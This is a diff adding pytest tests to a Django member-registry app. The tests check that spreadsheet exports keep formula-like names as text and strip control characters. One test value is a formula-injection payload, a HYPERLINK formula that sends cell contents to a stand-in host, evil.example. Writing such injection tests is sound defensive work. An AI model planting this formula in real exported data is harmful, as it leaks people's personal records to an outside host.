@@ -9,6 +9,7 @@ from dangjian.core.errors import DomainError
 from dangjian.registry import services
 from dangjian.registry.exports import export_members
 from dangjian.registry.imports import MEMBER_COLUMNS
+from dangjian.registry.models import Member
 
 pytestmark = pytest.mark.django_db
 
@@ -56,3 +57,36 @@ def test_only_admins_over_the_organization_may_export(world):
     with pytest.raises(DomainError) as info:
         export_members(actor=world.a.admin, org=world.b.org)
     assert info.value.code == "not_found"
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2&E2,"详情")'
+
+
+def exported_sheet(api, user, org):
+    response = api(user).get(f"/orgs/{org.pk}/members/export.xlsx")
+    assert response.status_code == 200, response.content
+    return load_workbook(io.BytesIO(response.content)).worksheets[0]
+
+
+def test_names_that_look_like_formulas_are_exported_as_text_over_http(world, api):
+    Member.objects.filter(pk=world.a.member.pk).update(name="=1+1")
+    Member.objects.filter(pk=world.a.flowing.pk).update(name=HYPERLINK, flowing_location="@SUM(A1)")
+
+    sheet = exported_sheet(api, world.city_admin, world.city)
+
+    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    for name in ("=1+1", HYPERLINK):
+        assert cells[name][0].data_type == "s"
+    assert (cells[HYPERLINK][10].value, cells[HYPERLINK][10].data_type) == ("@SUM(A1)", "s")
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_control_characters_stored_before_they_were_refused_do_not_break_the_export(world, api):
+    Member.objects.filter(pk=world.a.flowing.pk).update(flowing_location="广东省\x0b深圳市")
+    Member.objects.filter(pk=world.b.member.pk).update(name="南郑区党员\x1b")
+
+    sheet = exported_sheet(api, world.city_admin, world.city)
+
+    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert rows["汉台区流动党员"][10] == "广东省深圳市"
+    assert "南郑区党员" in rows
